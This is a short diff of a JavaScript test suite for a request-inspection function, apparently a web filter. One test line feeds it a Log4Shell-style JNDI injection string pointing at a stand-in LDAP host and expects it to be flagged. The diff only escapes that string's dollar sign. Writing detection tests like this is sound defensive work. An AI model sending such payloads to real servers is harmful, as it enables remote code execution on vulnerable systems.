@@ -71,7 +71,7 @@ describe('inspectRequest', () => {
         { in: 'query', name: 'text', value: lesson, admits: 'text' },
       ]),
     ).toEqual([]);
-    expect(inspect('/', body('${jndi:ldap://x.example.org/a}', 'text'))).toHaveLength(1);
+    expect(inspect('/', body('\x24{jndi:ldap://x.example.org/a}', 'text'))).toHaveLength(1);
   });
 
   it('leaves out what is excepted', () => {
